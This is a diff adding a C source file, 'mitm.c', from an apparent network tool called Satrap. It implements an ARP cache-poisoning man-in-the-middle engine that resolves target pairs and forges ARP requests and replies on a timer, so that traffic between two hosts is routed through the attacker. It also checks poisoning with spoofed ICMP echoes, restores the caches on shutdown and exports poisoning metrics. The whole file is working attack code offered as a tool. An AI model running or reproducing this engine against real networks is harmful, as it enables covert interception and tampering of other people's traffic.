@@ -0,0 +1,691 @@
+/* Satrap/mitm.c */
+
+#include <errno.h>
+#include <time.h>
+#include <unistd.h>
+
+#include <netinet/ip.h>
+#include <netinet/ip_icmp.h>
+#include <sys/epoll.h>
+#include <sys/socket.h>
+
+#include "filter.h"
+#include "mitm.h"
+#include "scan.h"
+
+
+
+/* Largest range of addresses scanned at once by mitm_resolve(). The
+   targets of a wider range are resolved one by one. */
+#define MITM_MAX_SCAN (1 << 16)
+
+
+/* Current time of CLOCK_MONOTONIC in nanoseconds */
+static uint64_t now_ns(void)
+{
+  struct timespec ts;
+  clock_gettime(CLOCK_MONOTONIC, &ts);
+  return (uint64_t) ts.tv_sec * 1000000000ULL + ts.tv_nsec;
+}
+
+
+
+/* Initializes a man-in-the-middle engine
+
+   engine: the engine to initialize
+   io: frame I/O backend
+   hosts: table of the known hosts, or NULL
+   ipaddr: local IP address
+   macaddr: local hardware address
+ */
+void mitm_init(struct mitm_engine *engine, struct frame_io *io, struct host_table *hosts, struct sockaddr_in *ipaddr, unsigned char *macaddr)
+{
+  memset(engine, 0, sizeof(*engine));
+  engine->io = io;
+  engine->hosts = hosts;
+  engine->ipaddr = *ipaddr;
+  memcpy(engine->macaddr, macaddr, ETHER_ADDR_LEN);
+  engine->interval = MITM_DEFAULT_INTERVAL;
+  engine->restore_deadline = MITM_DEFAULT_RESTORE_DEADLINE;
+  engine->watchfd = -1;
+}
+
+
+/* Adds a pair of targets. Pairs can't be added while mitm_run() is
+   running.
+
+   Returns 0 on success, -1 if the memory could not be allocated.
+ */
+int mitm_add_pair(struct mitm_engine *engine, struct in_addr ip1, struct in_addr ip2)
+{
+  if (engine->npairs == engine->size) {
+    size_t size = engine->size ? 2 * engine->size : 16;
+    struct mitm_pair *pairs = realloc(engine->pairs, size * sizeof(*pairs));
+    if (!pairs)
+      return -1;
+    engine->pairs = pairs;
+    engine->size = size;
+  }
+
+  struct mitm_pair *pair = &engine->pairs[engine->npairs++];
+  memset(pair, 0, sizeof(*pair));
+  pair->ip1 = ip1;
+  pair->ip2 = ip2;
+  return 0;
+}
+
+
+
+/* ====================================================================== */
+
+/* RESOLUTION OF THE TARGETS */
+
+/* Internet checksum of a header */
+static uint16_t checksum(const void *data, size_t len)
+{
+  const uint16_t *words = data;
+  uint32_t sum = 0;
+  for (size_t i = 0; i < len / 2; ++i)
+    sum += words[i];
+  while (sum >> 16)
+    sum = (sum & 0xffff) + (sum >> 16);
+  return ~sum;
+}
+
+
+/* Builds an echo request to a target, from the other one: the target
+   replies through its cache, so the reply comes to us as long as the
+   cache is poisoned */
+static void build_echo(unsigned char *frame, struct in_addr from, struct in_addr to, const unsigned char *to_mac, uint16_t seq)
+{
+  struct ether_header eth;
+  memcpy(eth.ether_dhost, to_mac, ETHER_ADDR_LEN);
+  memset(eth.ether_shost, 0, ETHER_ADDR_LEN); /* filled by the kernel */
+  eth.ether_type = htons(ETH_P_IP);
+
+  struct iphdr ip;
+  memset(&ip, 0, sizeof(ip));
+  ip.version = 4;
+  ip.ihl = sizeof(ip) / 4;
+  ip.tot_len = htons(sizeof(ip) + sizeof(struct icmphdr));
+  ip.id = htons(seq);
+  ip.ttl = 64;
+  ip.protocol = IPPROTO_ICMP;
+  ip.saddr = from.s_addr;
+  ip.daddr = to.s_addr;
+  ip.check = checksum(&ip, sizeof(ip));
+
+  struct icmphdr icmp;
+  memset(&icmp, 0, sizeof(icmp));
+  icmp.type = ICMP_ECHO;
+  icmp.un.echo.id = htons(getpid() & 0xffff);
+  icmp.un.echo.sequence = htons(seq);
+  icmp.checksum = checksum(&icmp, sizeof(icmp));
+
+  memcpy(frame, &eth, sizeof(eth));
+  memcpy(frame + sizeof(eth), &ip, sizeof(ip));
+  memcpy(frame + sizeof(eth) + sizeof(ip), &icmp, sizeof(icmp));
+}
+
+
+/* Builds the poisoning frames of a pair whose hardware addresses are
+   known, and the frames which undo them. We send both requests and
+   replies because some devices (linux > 2.4.x for example) don't
+   update their ARP cache on unsolicited replies, but do on queries. */
+static void build_poison(struct mitm_engine *engine, struct mitm_pair *pair)
+{
+  build_arp_frame(&pair->poison[0][0], ARPOP_REQUEST, pair->ip1, engine->macaddr, pair->ip2, NULL);
+  build_arp_frame(&pair->poison[0][1], ARPOP_REPLY, pair->ip1, engine->macaddr, pair->ip2, pair->mac2);
+  build_arp_frame(&pair->poison[1][0], ARPOP_REQUEST, pair->ip2, engine->macaddr, pair->ip1, NULL);
+  build_arp_frame(&pair->poison[1][1], ARPOP_REPLY, pair->ip2, engine->macaddr, pair->ip1, pair->mac1);
+
+  build_arp_frame(&pair->restore[0][0], ARPOP_REQUEST, pair->ip1, pair->mac1, pair->ip2, NULL);
+  build_arp_frame(&pair->restore[0][1], ARPOP_REPLY, pair->ip1, pair->mac1, pair->ip2, pair->mac2);
+  build_arp_frame(&pair->restore[1][0], ARPOP_REQUEST, pair->ip2, pair->mac2, pair->ip1, NULL);
+  build_arp_frame(&pair->restore[1][1], ARPOP_REPLY, pair->ip2, pair->mac2, pair->ip1, pair->mac1);
+  uint16_t seq = 2 * (pair - engine->pairs);
+  build_echo(pair->echo[0], pair->ip1, pair->ip2, pair->mac2, seq);
+  build_echo(pair->echo[1], pair->ip2, pair->ip1, pair->mac1, seq + 1);
+}
+
+
+/* Resolves the hardware addresses of the targets of every pair: the
+   hosts which are not in the host table are asked with a single scan.
+   The pairs whose targets don't answer are marked as failed.
+
+   Returns the number of active pairs, or -1 on error.
+ */
+int mitm_resolve(struct mitm_engine *engine)
+{
+  struct host_table local, *hosts = engine->hosts;
+  if (!hosts) {
+    if (hosts_init(&local, 2 * engine->npairs) == -1)
+      return -1;
+    hosts = &local;
+  }
+
+  /* Range of the targets which are not known yet */
+  uint32_t first = UINT32_MAX, last = 0;
+  unsigned char mac[ETHER_ADDR_LEN];
+  for (size_t i = 0; i < engine->npairs; ++i) {
+    struct mitm_pair *pair = &engine->pairs[i];
+    if (pair->state != MITM_UNRESOLVED)
+      continue;
+    struct in_addr ips[2] = { pair->ip1, pair->ip2 };
+    for (int j = 0; j < 2; ++j) {
+      if (hosts_get_mac(hosts, ips[j], mac) == 0)
+	continue;
+      uint32_t ip = ntohl(ips[j].s_addr);
+      if (ip < first)
+	first = ip;
+      if (ip > last)
+	last = ip;
+    }
+  }
+
+  int err = 0, scanned = 0;
+  if (first <= last && last - first < MITM_MAX_SCAN) {
+    /* One scan over the range, every host that answers is recorded */
+    struct in_addr first_ip = { htonl(first) }, last_ip = { htonl(last) };
+    struct scan_engine scan;
+    if (scan_init(&scan, engine->io, &engine->ipaddr, engine->macaddr, first_ip, last_ip) == -1) {
+      err = -1;
+    }
+    else {
+      scan.hosts = hosts;
+      err = scan_run(&scan);
+      scan_free(&scan);
+      scanned = 1;
+    }
+  }
+
+  int active = 0;
+  for (size_t i = 0; i < engine->npairs && err == 0; ++i) {
+    struct mitm_pair *pair = &engine->pairs[i];
+    if (pair->state == MITM_ACTIVE)
+      ++active;
+    if (pair->state != MITM_UNRESOLVED)
+      continue;
+
+    /* After the scan, the table has the answer. Targets too far apart
+       for a scan are asked one by one. */
+    int found;
+    if (scanned)
+      found = hosts_get_mac(hosts, pair->ip1, pair->mac1) == 0
+	&& hosts_get_mac(hosts, pair->ip2, pair->mac2) == 0;
+    else
+      found = arp_resolve(engine->io, hosts, &engine->ipaddr, engine->macaddr, pair->ip1, pair->mac1) == 0
+	&& arp_resolve(engine->io, hosts, &engine->ipaddr, engine->macaddr, pair->ip2, pair->mac2) == 0;
+    if (found) {
+      build_poison(engine, pair);
+      pair->state = MITM_ACTIVE;
+      ++active;
+    }
+    else {
+      pair->state = MITM_FAILED;
+    }
+  }
+
+  if (hosts == &local)
+    hosts_free(&local);
+
+  return err == 0 ? active : -1;
+}
+
+
+
+/* ====================================================================== */
+
+/* POISONING */
+
+/* Sends the frames of the next direction of a pair, and schedules its
+   next refresh */
+static void refresh_pair(struct wheel_timer *timer, void *arg)
+{
+  struct mitm_engine *engine = arg;
+  struct mitm_pair *pair = (struct mitm_pair *) ((char *) timer - offsetof(struct mitm_pair, timer));
+
+  struct arp_frame *frames = pair->poison[pair->direction];
+  for (int i = 0; i < 2; ++i) {
+    int err = frame_io_send(engine->io, &frames[i], sizeof(frames[i]));
+    if (err == 1) {
+      /* Backend full: we make room */
+      frame_io_flush(engine->io);
+      err = frame_io_send(engine->io, &frames[i], sizeof(frames[i]));
+    }
+    if (err == 0)
+      ++engine->sent;
+  }
+  pair->direction ^= 1;
+  ++pair->refreshes;
+
+  /* The next refresh is one interval after this one was due, so the
+     pairs keep their spacing even if we are late */
+  uint64_t due = engine->wheel.start + timer->expires * engine->wheel.tick;
+  timer_wheel_add(&engine->wheel, timer, due + (uint64_t) engine->interval * 1000000ULL);
+}
+
+
+/* Frame handler of the engine: the ARP replies keep the host table up
+   to date */
+static void handle_frame(const unsigned char *frame, size_t len, void *arg)
+{
+  struct mitm_engine *engine = arg;
+  const struct arp_frame *arp = (const struct arp_frame *) frame;
+  if (!engine->hosts || len < sizeof(*arp) || arp->eth.ether_type != htons(ETH_P_ARP)
+      || ntohs(arp->arp.arp_op) != ARPOP_REPLY)
+    return;
+
+  struct in_addr ip;
+  memcpy(&ip.s_addr, arp->arp.arp_spa, sizeof(ip.s_addr));
+  hosts_update(engine->hosts, ip, arp->arp.arp_sha);
+}
+
+
+/* Fires the refreshes which are due, and sets the timer for the next
+   one */
+static void on_timer(struct reactor *reactor, void *arg)
+{
+  struct mitm_engine *engine = arg;
+  uint64_t now = now_ns();
+  timer_wheel_advance(&engine->wheel, now, refresh_pair, engine);
+  if (frame_io_flush(engine->io) == -1)
+    perror("[FAIL] frame_io_flush()");
+
+  uint64_t wakeup = timer_wheel_next(&engine->wheel);
+  if (wakeup == UINT64_MAX)
+    return;
+  now = now_ns();
+  reactor_set_timer(engine->timer, wakeup > now ? wakeup - now : 1, 0);
+}
+
+
+static void on_frames(struct reactor *reactor, int fd, uint32_t events, void *arg)
+{
+  struct mitm_engine *engine = arg;
+  if (frame_io_recv(engine->io, handle_frame, engine) == -1)
+    perror("[FAIL] frame_io_recv()");
+}
+
+
+
+/* Starts poisoning the active pairs on an event loop, until
+   mitm_stop(). mitm_resolve() must have been called first.
+
+   Returns 0 on success, -1 on error.
+ */
+int mitm_start(struct mitm_engine *engine, struct reactor *reactor)
+{
+  uint64_t now = now_ns();
+  if (timer_wheel_init(&engine->wheel, TIMER_WHEEL_DEFAULT_SLOTS, TIMER_WHEEL_DEFAULT_TICK, now) == -1)
+    return -1;
+
+  /* The first refreshes are spread evenly over one interval */
+  size_t active = 0;
+  for (size_t i = 0; i < engine->npairs; ++i)
+    active += (engine->pairs[i].state == MITM_ACTIVE);
+  uint64_t interval = (uint64_t) engine->interval * 1000000ULL;
+  size_t k = 0;
+  for (size_t i = 0; i < engine->npairs; ++i) {
+    struct mitm_pair *pair = &engine->pairs[i];
+    if (pair->state != MITM_ACTIVE)
+      continue;
+    timer_wheel_add(&engine->wheel, &pair->timer, now + interval * k / active);
+    ++k;
+  }
+
+  engine->reactor = reactor;
+  engine->rx = reactor_add_fd(reactor, engine->io->fd, EPOLLIN, on_frames, engine);
+  engine->timer = reactor_add_timer(reactor, on_timer, engine);
+  if (!engine->rx || !engine->timer
+      || reactor_set_timer(engine->timer, 1, 0) == -1) {
+    mitm_stop(engine);
+    return -1;
+  }
+
+  return 0;
+}
+
+
+/* Stops poisoning */
+void mitm_stop(struct mitm_engine *engine)
+{
+  if (engine->rx)
+    reactor_remove(engine->reactor, engine->rx);
+  if (engine->timer)
+    reactor_remove(engine->reactor, engine->timer);
+  engine->rx = engine->timer = NULL;
+
+  if (engine->wheel.slots) {
+    for (size_t i = 0; i < engine->npairs; ++i)
+      timer_wheel_del(&engine->wheel, &engine->pairs[i].timer);
+    timer_wheel_free(&engine->wheel);
+  }
+}
+
+
+
+/* ====================================================================== */
+
+/* RESTORATION */
+
+/* Sends the restoring frames of a direction of a pair (0: target 2,
+   1: target 1), and the echo request which checks them */
+static void restore_direction(struct mitm_engine *engine, struct mitm_pair *pair, unsigned int d, uint64_t now)
+{
+  const void *frames[3] = { &pair->restore[d][0], &pair->restore[d][1], pair->echo[d] };
+  const size_t lens[3] = { sizeof(struct arp_frame), sizeof(struct arp_frame), MITM_ECHO_LEN };
+  for (int i = 0; i < 3; ++i) {
+    int err = frame_io_send(&engine->watch, frames[i], lens[i]);
+    if (err == 1) {
+      /* Backend full: we make room */
+      frame_io_flush(&engine->watch);
+      err = frame_io_send(&engine->watch, frames[i], lens[i]);
+    }
+    if (err == 0)
+      ++engine->restore_sent;
+  }
+  pair->restore_sent[d] = now;
+  pair->poisoned[d] = 0;
+}
+
+
+/* Records the traffic of a target which still goes through us: a
+   frame from its hardware address, for the IP address of the other
+   target of a pair */
+static void record_poisoned(struct mitm_engine *engine, const unsigned char *mac, uint32_t to, uint64_t now)
+{
+  uint64_t grace = MITM_RESTORE_GRACE * 1000000ULL;
+  for (size_t i = 0; i < engine->npairs; ++i) {
+    struct mitm_pair *pair = &engine->pairs[i];
+    if (pair->state != MITM_ACTIVE)
+      continue;
+    for (unsigned int d = 0; d < 2; ++d) {
+      /* Direction 0 restores target 2, which sends to target 1 */
+      const unsigned char *victim = d ? pair->mac1 : pair->mac2;
+      uint32_t peer = d ? pair->ip2.s_addr : pair->ip1.s_addr;
+      if (peer != to || memcmp(victim, mac, ETHER_ADDR_LEN)
+	  || now < pair->restore_sent[d] + grace)
+	continue;
+      pair->poisoned[d] = 1;
+      /* Silent until now, not restored after all */
+      if (pair->restored[d]) {
+	pair->restored[d] = 0;
+	--engine->restore_confirmed;
+      }
+    }
+  }
+}
+
+
+/* Frame handler of the restoration: the ARP requests sent to us, and
+   the IPv4 packets through us. The filter of the socket only lets the
+   frames for our hardware address in. */
+static void handle_watched(const unsigned char *frame, size_t len, void *arg)
+{
+  struct mitm_engine *engine = arg;
+  const struct ether_header *eth = (const struct ether_header *) frame;
+  if (len < sizeof(*eth))
+    return;
+
+  uint32_t to;
+  if (eth->ether_type == htons(ETH_P_ARP)) {
+    /* A request checking the entry of the cache, sent to the address
+       it holds */
+    const struct ether_arp *arp = (const struct ether_arp *) (eth + 1);
+    if (len < sizeof(*eth) + sizeof(*arp) || arp->arp_op != htons(ARPOP_REQUEST))
+      return;
+    memcpy(&to, arp->arp_tpa, sizeof(to));
+  }
+  else if (eth->ether_type == htons(ETH_P_IP)) {
+    /* The destination address, at offset 16 of the header */
+    if (len < sizeof(*eth) + 20)
+      return;
+    memcpy(&to, frame + sizeof(*eth) + 16, sizeof(to));
+    if (to == engine->ipaddr.sin_addr.s_addr)
+      return;
+  }
+  else
+    return;
+  record_poisoned(engine, eth->ether_shost, to, now_ns());
+}
+
+
+static void on_watched(struct reactor *reactor, int fd, uint32_t events, void *arg)
+{
+  struct mitm_engine *engine = arg;
+  if (frame_io_recv(&engine->watch, handle_watched, engine) == -1) {
+#ifdef DEBUG
+    perror("[FAIL] frame_io_recv()");
+#endif
+  }
+}
+
+
+/* Sends the frames again to the targets whose traffic still went
+   through us, and confirms those which stayed silent. Ends the
+   restoration when they are all confirmed, or at the deadline. */
+static void on_restore_timer(struct reactor *reactor, void *arg)
+{
+  struct mitm_engine *engine = arg;
+  uint64_t now = now_ns();
+  uint64_t quiet = MITM_RESTORE_QUIET * 1000000ULL;
+  for (size_t i = 0; i < engine->npairs; ++i) {
+    struct mitm_pair *pair = &engine->pairs[i];
+    if (pair->state != MITM_ACTIVE)
+      continue;
+    for (unsigned int d = 0; d < 2; ++d) {
+      if (pair->poisoned[d])
+	restore_direction(engine, pair, d, now);
+      else if (!pair->restored[d] && now >= pair->restore_sent[d] + quiet) {
+	pair->restored[d] = now;
+	++engine->restore_confirmed;
+      }
+    }
+  }
+  if (frame_io_flush(&engine->watch) == -1) {
+#ifdef DEBUG
+    perror("[FAIL] frame_io_flush()");
+#endif
+  }
+
+  if (engine->restore_confirmed < engine->restore_targets
+      && now < engine->restore_start + engine->restore_deadline * 1000000ULL)
+    return;
+
+  /* A target is restored once it stayed quiet after its last frames */
+  for (size_t i = 0; i < engine->npairs; ++i) {
+    struct mitm_pair *pair = &engine->pairs[i];
+    for (unsigned int d = 0; d < 2 && pair->state == MITM_ACTIVE; ++d) {
+      uint64_t time = pair->restored[d] - engine->restore_start;
+      if (pair->restored[d] && time > engine->restore_time)
+	engine->restore_time = time;
+    }
+  }
+  mitm_restore_stop(engine);
+  if (engine->restore_done)
+    engine->restore_done(engine, engine->restore_done_arg);
+}
+
+
+/* Restores the caches of the targets, once the poisoning is stopped.
+   The true addresses of every active pair are sent at once, in both
+   directions, and again to each target whose traffic still goes
+   through us. A target is restored once it stays silent for
+   MITM_RESTORE_QUIET milliseconds after its frames. The restoration
+   ends when every target is restored, or at the deadline.
+
+   done: called at the end, or NULL
+
+   Returns 0 on success, -1 on error.
+ */
+int mitm_restore_start(struct mitm_engine *engine, struct reactor *reactor, mitm_restore_callback done, void *arg)
+{
+  engine->reactor = reactor;
+  engine->restore_done = done;
+  engine->restore_done_arg = arg;
+  engine->restore_targets = engine->restore_confirmed = 0;
+  engine->restore_time = 0;
+
+  /* The socket hears the ARP frames and the IPv4 packets sent to us on
+     the interface, cut to their headers, before the first frame goes
+     out. It gets no frame until it is bound, once filtered. */
+  engine->watchfd = socket(AF_PACKET, SOCK_DGRAM, 0);
+  struct sockaddr_ll addr;
+  memset(&addr, 0, sizeof(addr));
+  addr.sll_family = AF_PACKET;
+  addr.sll_protocol = htons(ETH_P_ALL);
+  addr.sll_ifindex = engine->io->ifindex;
+  if (engine->watchfd == -1 || filter_attach_watch(engine->watchfd) == -1
+      || bind(engine->watchfd, (struct sockaddr *) &addr, sizeof(addr)) == -1
+      || frame_io_socket(&engine->watch, engine->watchfd, engine->io->ifindex) == -1)
+    goto fail;
+  engine->watch_rx = reactor_add_fd(reactor, engine->watchfd, EPOLLIN, on_watched, engine);
+  engine->restore_timer = reactor_add_timer(reactor, on_restore_timer, engine);
+  uint64_t period = MITM_RESTORE_GRACE * 1000000ULL;
+  if (!engine->watch_rx || !engine->restore_timer
+      || reactor_set_timer(engine->restore_timer, period, period) == -1)
+    goto fail;
+
+  /* Every target at once */
+  engine->restore_start = now_ns();
+  for (size_t i = 0; i < engine->npairs; ++i) {
+    struct mitm_pair *pair = &engine->pairs[i];
+    if (pair->state != MITM_ACTIVE)
+      continue;
+    for (unsigned int d = 0; d < 2; ++d) {
+      pair->restored[d] = 0;
+      restore_direction(engine, pair, d, engine->restore_start);
+      ++engine->restore_targets;
+    }
+  }
+  if (frame_io_flush(&engine->watch) == -1)
+    goto fail;
+  return 0;
+
+ fail: {
+    int err = errno;
+    mitm_restore_stop(engine);
+    errno = err;
+    return -1;
+  }
+}
+
+
+/* Ends the restoration, restored or not */
+void mitm_restore_stop(struct mitm_engine *engine)
+{
+  if (engine->watch_rx)
+    reactor_remove(engine->reactor, engine->watch_rx);
+  if (engine->restore_timer)
+    reactor_remove(engine->reactor, engine->restore_timer);
+  engine->watch_rx = engine->restore_timer = NULL;
+  if (engine->watch.ops)
+    frame_io_close(&engine->watch);
+  engine->watch.ops = NULL;
+  if (engine->watchfd != -1)
+    close(engine->watchfd);
+  engine->watchfd = -1;
+}
+
+
+
+static void on_restored(struct mitm_engine *engine, void *arg)
+{
+  reactor_stop(engine->reactor);
+}
+
+
+/* Stops the poisoning of mitm_run() on SIGINT or SIGTERM, and restores
+   the caches; a second signal stops the restoration */
+static void on_signal(struct reactor *reactor, int signo, void *arg)
+{
+  struct mitm_engine *engine = arg;
+  if (engine->rx) {
+    mitm_stop(engine);
+    if (mitm_restore_start(engine, reactor, on_restored, NULL) == 0)
+      return;
+#ifdef DEBUG
+    perror("[FAIL] mitm_restore_start()");
+#endif
+  }
+  mitm_restore_stop(engine);
+  reactor_stop(reactor);
+}
+
+
+/* Poisons the active pairs on its own event loop, until SIGINT or
+   SIGTERM is received. mitm_resolve() must have been called first.
+
+   Returns 0 when interrupted, -1 on error.
+ */
+int mitm_run(struct mitm_engine *engine)
+{
+  struct reactor reactor;
+  if (reactor_init(&reactor) == -1)
+    return -1;
+
+  int err = -1;
+  if (reactor_add_signal(&reactor, SIGINT, on_signal, engine)
+      && reactor_add_signal(&reactor, SIGTERM, on_signal, engine)
+      && mitm_start(engine, &reactor) == 0)
+    err = reactor_run(&reactor);
+
+  mitm_stop(engine);
+  mitm_restore_stop(engine);
+  reactor_free(&reactor);
+  return err;
+}
+
+
+
+static double read_active_pairs(const void *arg)
+{
+  const struct mitm_engine *engine = arg;
+  size_t active = 0;
+  for (size_t i = 0; i < engine->npairs; ++i)
+    if (engine->pairs[i].state == MITM_ACTIVE)
+      ++active;
+  return active;
+}
+
+
+static double read_refreshes(const void *arg)
+{
+  const struct mitm_engine *engine = arg;
+  unsigned long refreshes = 0;
+  for (size_t i = 0; i < engine->npairs; ++i)
+    refreshes += engine->pairs[i].refreshes;
+  return refreshes;
+}
+
+
+/* Adds the counters of the engine to a registry of metrics, which
+   must be collected in the thread of the engine
+
+   Returns 0 on success, -1 on error.
+ */
+int mitm_add_metrics(struct mitm_engine *engine, struct metrics *m)
+{
+  if (metrics_add_counter(m, "satrap_mitm_frames_sent_total",
+			  "Poisoning frames sent", NULL, &engine->sent) == -1
+      || metrics_add(m, METRIC_COUNTER, "satrap_mitm_refreshes_total",
+		     "Refreshes of the pairs", NULL, read_refreshes, engine) == -1
+      || metrics_add(m, METRIC_GAUGE, "satrap_mitm_pairs_active",
+		     "Pairs being poisoned", NULL, read_active_pairs, engine) == -1
+      || metrics_add_counter(m, "satrap_mitm_restore_frames_sent_total",
+			     "Restoring frames sent, echo requests included", NULL,
+			     &engine->restore_sent) == -1)
+    return -1;
+  return 0;
+}
+
+
+
+/* Frees the memory used by the engine */
+void mitm_free(struct mitm_engine *engine)
+{
+  free(engine->pairs);
+  engine->pairs = NULL;
+  engine->npairs = engine->size = 0;
+}